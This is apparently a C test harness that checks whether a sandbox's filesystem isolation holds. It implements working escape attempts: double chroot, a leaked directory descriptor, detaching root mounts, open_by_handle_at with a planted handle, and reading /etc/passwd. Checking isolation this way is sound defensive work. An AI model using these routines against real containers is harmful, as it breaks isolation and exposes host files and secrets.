/* What the command reaches in the tree of files. */
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>

/* read PATH: the path itself, and where a root that was not detached would have it. */
ATTACK(read_secret) {
    char text[64], elsewhere[4200];
    if (slurp(args[0], text, sizeof text) > 0) return escaped("%s: %s", args[0], text);
    int first = errno;
    snprintf(elsewhere, sizeof elsewhere, "/old-root%s", args[0]);
    if (slurp(elsewhere, text, sizeof text) > 0) return escaped("%s: %s", elsewhere, text);
    return errno = first, stopped(args[0]);
}

/* descriptor NUMBER NAME: a directory of the caller's that was left open, and up from there. */
ATTACK(descriptor) {
    char text[64] = "", up[256];
    snprintf(up, sizeof up, "../%s", args[1]);
    int at = atoi(args[0]), fd = openat(at, up, O_RDONLY);
    if (fd < 0) return stopped("openat");
    return tried(text, read(fd, text, sizeof text));
}

/* chroot NUMBER PATH: with it out of a root of one's own, chroot(2) twice. */
ATTACK(twice_chroot) {
    char text[64] = "";
    if (mkdir("/tmp/root", 0700)) return not_tried("mkdir");
    if (chroot("/tmp/root")) return stopped("chroot");
    if (fchdir(atoi(args[0]))) return stopped("fchdir");
    for (int i = 0; i < 40; i++)
        if (chdir("..")) return stopped("chdir ..");
    if (chroot(".")) return stopped("chroot .");
    if (slurp(args[1], text, sizeof text) <= 0) return stopped(args[1]);
    return escaped("%s", text);
}

/* unmount PATH: what may lie below the root, mount by mount. */
ATTACK(unmount_root) {
    char text[64] = "";
    int own = open("/proc/self/ns/mnt", O_RDONLY);
    for (int i = 0; i < 8; i++) {
        if (umount2("/", MNT_DETACH)) break;
        /* Back to the root of the namespace, whatever that is now. */
        if (setns(own, CLONE_NEWNS)) break;
        if (slurp(args[0], text, sizeof text) > 0) return escaped("below %d roots: %s", i + 1, text);
    }
    return stopped("umount2");
}

/* relative NAME: from the working directory. */
ATTACK(relative) {
    char text[64] = "";
    if (slurp(args[0], text, sizeof text) <= 0) return stopped(args[0]);
    return escaped("%s", text);
}

/* handle DIRECTORY: the directory, which is covered, by the handle that is in /shared/handle. */
ATTACK(by_handle) {
    char text[512] = "";
    struct file_handle *handle = (struct file_handle *)text;
    int given = open("/shared/handle", O_RDONLY), at = open(args[0], O_RDONLY);
    if (given < 0 || read(given, text, sizeof text) < 8 || at < 0) return not_tried("the handle");
    int fd = open_by_handle_at(at, handle, O_RDONLY | O_DIRECTORY);
    if (fd < 0) return stopped("open_by_handle_at");
    return tried("open_by_handle_at", openat(fd, "secret", O_RDONLY));
}
/* write-handle DIRECTORY FILE: outside, before. */
ATTACK(write_handle) {
    char text[512] = "";
    struct file_handle *handle = (struct file_handle *)text;
    handle->handle_bytes = MAX_HANDLE_SZ;
    int mount, fd = open(args[1], O_CREAT | O_WRONLY, 0644);
    if (name_to_handle_at(AT_FDCWD, args[0], handle, &mount, 0)) return not_tried("name_to_handle_at");
    return write(fd, text, sizeof text) == sizeof text ? 0 : not_tried(args[1]);
}

/* account NAME: a user of the host's. */
ATTACK(account) {
    char line[256], start[64];
    snprintf(start, sizeof start, "%s:", args[0]);
    FILE *passwd = fopen("/etc/passwd", "r");
    if (!passwd) return not_tried("/etc/passwd");
    while (fgets(line, sizeof line, passwd))
        if (!strncmp(line, start, strlen(start))) return escaped("%s", line);
    return errno = ENOENT, stopped(args[0]);
}

ATTACKS({"read-secret", read_secret}, {"descriptor", descriptor}, {"chroot", twice_chroot},
        {"unmount", unmount_root}, {"relative", relative}, {"handle", by_handle}, {"write-handle", write_handle},
        {"account", account})
